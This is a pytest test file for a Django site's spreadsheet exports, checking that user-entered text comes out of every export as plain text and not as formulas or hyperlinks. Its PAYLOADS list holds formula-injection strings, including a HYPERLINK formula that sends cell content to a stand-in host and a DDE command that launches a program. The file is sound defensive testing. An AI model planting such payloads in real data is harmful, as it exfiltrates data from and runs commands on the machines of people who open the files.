"""Formula injection: every spreadsheet the site produces writes text as text.

A name such as `=HYPERLINK("//e.x/"&INDIRECT("C"&ROW()),"x")` typed into any field must
come back out of every export as the same text: a string cell, no formula, no hyperlink,
no number. `EXPORTS` names a case for every spreadsheet URL of the site (the URL walk
fails for one nobody covers); each case puts the payloads into a text column that the
export writes, downloads the file and reads the sheet's XML as Excel would."""

from __future__ import annotations

import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
import xlsxwriter
from django.urls import reverse

from jiangxin.core.exports import write_xlsx
from jiangxin.selection.tests.factories import workday_today  # noqa: F401
from jiangxin.testing.exports import export_get
from jiangxin.testing.people import make_worker
from jiangxin.testing.urlwalk import named_urls

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("//e.x/"&INDIRECT("C"&ROW()),"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "http://e.x/a",
    "mailto:a@e.x",
    "0012",
    "370102199001011234",
]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def sheet_cells(data: bytes) -> dict[str, tuple[str, str]]:
    """{cell ref: (type, text)} of the first sheet; fails on any formula or hyperlink."""
    book = zipfile.ZipFile(io.BytesIO(data))
    sheet = book.read("xl/worksheets/sheet1.xml")
    root = ElementTree.fromstring(sheet)
    assert root.find(".//m:f", NS) is None, "a formula in the sheet"
    assert root.find(".//m:hyperlinks", NS) is None, "a hyperlink in the sheet"
    assert not [n for n in book.namelist() if "externalLink" in n]
    if "xl/worksheets/_rels/sheet1.xml.rels" in book.namelist():  # comments have one
        assert b"/hyperlink" not in book.read("xl/worksheets/_rels/sheet1.xml.rels")
    strings: list[str] = []
    if "xl/sharedStrings.xml" in book.namelist():
        table = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in table]
    cells = {}
    for c in root.iter(f"{{{NS['m']}}}c"):
        kind = c.get("t", "n")
        if kind == "s":
            text = strings[int(c.find("m:v", NS).text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
        else:
            v = c.find("m:v", NS)
            text = v.text if v is not None else ""
        cells[c.get("r")] = (kind, _unescape(text))
    return cells


def _unescape(text: str) -> str:
    # xlsxwriter writes control characters as _xHHHH_ (the OOXML escape)
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def assert_payloads_are_text(data: bytes, payloads=PAYLOADS) -> None:
    cells = sheet_cells(data)
    found = {text: kind for kind, text in cells.values()}
    for p in payloads:
        assert p in found, f"{p!r} is not in the sheet as it was typed"
        assert found[p] in ("s", "inlineStr", "str"), f"{p!r} written as {found[p]}"
        assert found[p] != "str", f"{p!r} is a formula result"


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- one case per spreadsheet URL: (client, url) after putting PAYLOADS into the data --------


def _orgs(world):
    from jiangxin.orgs.models import Org

    for i, p in enumerate(PAYLOADS):
        child = Org(name=f"payload{i}", kind="enterprise", region_code="370102")
        Org.objects.add_child(Org.objects.get(pk=world.ent_a.pk), instance=child)
        Org.objects.filter(pk=child.pk).update(name=p)
    return world.client(world.admin_a), reverse("orgs:export")


def _workers(world):
    from jiangxin.people.models import Worker

    for i, p in enumerate(PAYLOADS):
        w = make_worker(world.ent_a, 900 + i)
        Worker.objects.filter(pk=w.pk).update(name=p, occupation=p)
    return world.client(world.admin_a), reverse("people:worker_export")


def _studios(world):
    from jiangxin.achievements.tests.helpers import make_studio

    for i, p in enumerate(PAYLOADS):
        make_studio(world.ent_a, make_worker(world.ent_a, 900 + i), name=p)
    return world.client(world.admin_a), reverse("studios:export")


def _achievements(world):
    from jiangxin.achievements.models import Achievement
    from jiangxin.achievements.tests.helpers import submit

    for i, p in enumerate(PAYLOADS):
        a = submit(world.admin_a, world.ent_a, [make_worker(world.ent_a, 900 + i)])
        Achievement.objects.filter(pk=a.pk).update(title=p)
    return world.client(world.admin_a), reverse("achievements:export")


def _audit(world):
    from jiangxin.core.audit import audit_record

    for p in PAYLOADS:
        audit_record(actor=world.admin_a, action="org.update", obj=world.ent_a, username=p)
    return world.client(world.auditor), reverse("core:audit_export")


def _sheet(world):
    from jiangxin.selection import services
    from jiangxin.selection.models import Entry
    from jiangxin.selection.tests.factories import make_campaign

    campaign = make_campaign(world)
    services.quota_set(
        actor=world.city_staff,
        campaign=campaign,
        parent=world.county,
        method="fixed",
        amounts={world.ent_a.pk: len(PAYLOADS)},
    )
    for i, p in enumerate(PAYLOADS):
        e = services.entry_nominate(
            actor=world.admin_a, campaign=campaign, subject_id=make_worker(world.ent_a, 900 + i).pk
        )
        Entry.objects.filter(pk=e.pk).update(title=p)
    return world.client(world.admin_a), reverse("selection:sheet_export", args=[campaign.pk])


def _results(world):
    from jiangxin.selection.models import Entry
    from jiangxin.selection.tests.factories import make_campaign, to_announcement

    campaign = make_campaign(world)
    to_announcement(world, campaign)
    ranked = list(Entry.objects.filter(campaign=campaign, rank__isnull=False).order_by("rank"))
    assert ranked
    for e, p in zip(ranked, PAYLOADS, strict=False):
        Entry.objects.filter(pk=e.pk).update(title=p)
    client = world.client(world.city_staff)
    return client, reverse("selection:results_export", args=[campaign.pk]), len(ranked)


def _job_errors(world, settings, tmp_path):
    from jiangxin.core.models import TaskProgress

    settings.MEDIA_ROOT = tmp_path
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = book.add_worksheet()
    for c, h in enumerate(["企业名称", "统一社会信用代码", "上级工会", "行政区划代码", "行业"]):
        ws.write_string(0, c, h)
    for r, p in enumerate(PAYLOADS, start=1):
        for c, v in enumerate([p, "bad", world.county.name, "370102", p]):
            ws.write_string(r, c, v)
    book.close()
    upload = io.BytesIO(buf.getvalue())
    upload.name = "企业.xlsx"
    client = world.client(world.city_staff)
    client.post(reverse("core:import_upload", args=["orgs.enterprises"]), {"file": upload})
    job = TaskProgress.objects.get()
    assert job.result["error_count"] >= 1
    return client, reverse("core:job_errors", args=[job.pk])


def _registrations(world):
    from jiangxin.competitions.models import Competition, Registration, Track

    c = Competition.objects.create(
        org=world.province, title="竞赛", level="city", year=2026,
        registration_deadline="2099-12-31", status="open",
    )  # fmt: skip
    track = Track.objects.create(competition=c, code="FORMULA", name="赛项")
    for i, p in enumerate(PAYLOADS):
        Registration.objects.create(
            track=track, worker=make_worker(world.ent_a, 950 + i), employer=world.ent_a,
            team_name=p[:60], source="import",
        )  # fmt: skip
    return world.client(world.admin_a), reverse("competitions:registration_export")


EXPORTS = {
    "orgs:export": _orgs,
    "people:worker_export": _workers,
    "studios:export": _studios,
    "achievements:export": _achievements,
    "core:audit_export": _audit,
    "selection:sheet_export": _sheet,
    "selection:results_export": _results,
    "core:job_errors": _job_errors,
    "competitions:registration_export": _registrations,
    "core:import_template": None,  # fixed headers; test_import_template_cells_are_text
}


def test_every_spreadsheet_url_has_a_formula_case():
    spreadsheets = {
        name for name, pattern in named_urls() if str(pattern).endswith((".xlsx", ".csv", ".xls"))
    }
    assert spreadsheets == set(EXPORTS)


@pytest.mark.parametrize(
    "name", [n for n, case in EXPORTS.items() if case not in (None, _results, _job_errors)]
)
def test_export_writes_payloads_as_text(world, name):
    client, url = EXPORTS[name](world)
    assert_payloads_are_text(_body(export_get(client, url)))


@pytest.mark.usefixtures("workday_today")
def test_results_export_writes_payloads_as_text(world):
    client, url, n = _results(world)
    assert_payloads_are_text(_body(export_get(client, url)), PAYLOADS[:n])


def test_job_errors_workbook_writes_payloads_as_text(world, settings, tmp_path):
    client, url = _job_errors(world, settings, tmp_path)
    # the import reads a cell's text trimmed: "\t=1+1" comes back as "=1+1", still text;
    # an ID number comes back masked (the error workbook keeps no full ID number)
    from jiangxin.core.pii_text import mask_id_numbers

    expected = {mask_id_numbers(p.strip()) for p in PAYLOADS}
    assert_payloads_are_text(_body(client.get(url)), expected)


def test_import_template_cells_are_text(world):
    from jiangxin.core.import_registry import import_names

    client = world.client(world.province_admin)
    assert import_names()
    for name in import_names():
        response = client.get(reverse("core:import_template", args=[name]))
        if response.status_code == 404:  # not this role's import
            continue
        cells = sheet_cells(_body(response))
        assert cells and all(kind in ("s", "inlineStr") for kind, _t in cells.values())


def test_write_xlsx_types_cells_by_value():
    import datetime
    from decimal import Decimal

    buf = io.BytesIO()
    write_xlsx([["h"], ["=1+1", 7, Decimal("2.5"), True, None, datetime.date(2024, 1, 2)]], buf)
    cells = sheet_cells(buf.getvalue())
    assert cells["A2"] == ("inlineStr", "=1+1")  # constant-memory mode: inline strings
    assert cells["B2"] == ("n", "7") and cells["C2"] == ("n", "2.5")
    assert cells["D2"] == ("b", "1") and "E2" not in cells
    assert cells["F2"][0] == "n"  # a date is a dated number, not text
